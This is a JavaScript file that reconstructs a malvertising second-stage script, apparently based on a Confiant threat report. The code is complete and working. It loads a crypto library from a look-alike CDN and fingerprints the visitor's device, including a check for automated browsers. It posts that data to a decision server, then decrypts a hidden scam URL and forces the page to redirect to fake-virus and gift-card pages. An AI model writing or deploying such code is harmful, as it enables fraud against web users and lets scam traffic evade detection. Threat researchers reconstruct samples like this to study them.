// The second stage, from the look-alike CDN: it bundles CryptoJS, fingerprints the device
// (platform, touch points, screen and pixel ratio, time zone, WebGL renderer, webdriver) and
// posts it to the decision server; only a device the server accepts gets back an AES-
// encrypted landing page and the key, decrypted in the browser so the scam URL never appears
// in clear in the traffic, and the top window is sent there ("your phone is infected",
// gift-card and fake VPN pages). Reconstructed from the behaviour Confiant describes.
(function () {
  var S = "https://cdn.adsrv-static.invalid";
  function webgl() {
    try {
      var c = document.createElement("canvas").getContext("webgl");
      var e = c.getExtension("WEBGL_debug_renderer_info");
      return c.getParameter(e.UNMASKED_RENDERER_WEBGL);
    } catch (x) { return ""; }
  }
  function go() {
    var fp = {
      p: navigator.platform, t: navigator.maxTouchPoints, w: screen.width, h: screen.height,
      dpr: window.devicePixelRatio, tz: new Date().getTimezoneOffset(),
      l: navigator.language, g: webgl(), wd: !!navigator.webdriver,
      top: (function () { try { return top.location.href; } catch (e) { return document.referrer; } })()
    };
    var x = new XMLHttpRequest();
    x.open("POST", S + "/api/v2/rv", true);
    x.setRequestHeader("Content-Type", "text/plain");
    x.onload = function () {
      if (x.status !== 200 || !x.responseText) return;
      var r = JSON.parse(x.responseText);
      if (!r.d || !r.k) return;
      var dest = CryptoJS.AES.decrypt(r.d, r.k).toString(CryptoJS.enc.Utf8);
      if (dest.indexOf("http") !== 0) return;
      setTimeout(function () { top.location.href = dest; }, r.w || 800);
    };
    x.send(JSON.stringify(fp));
  }
  if (window.CryptoJS) go();
  else {
    var s = document.createElement("script");
    s.src = S + "/js/lib/crypto-js-4.0.min.js";
    s.onload = go;
    document.head.appendChild(s);
  }
})();
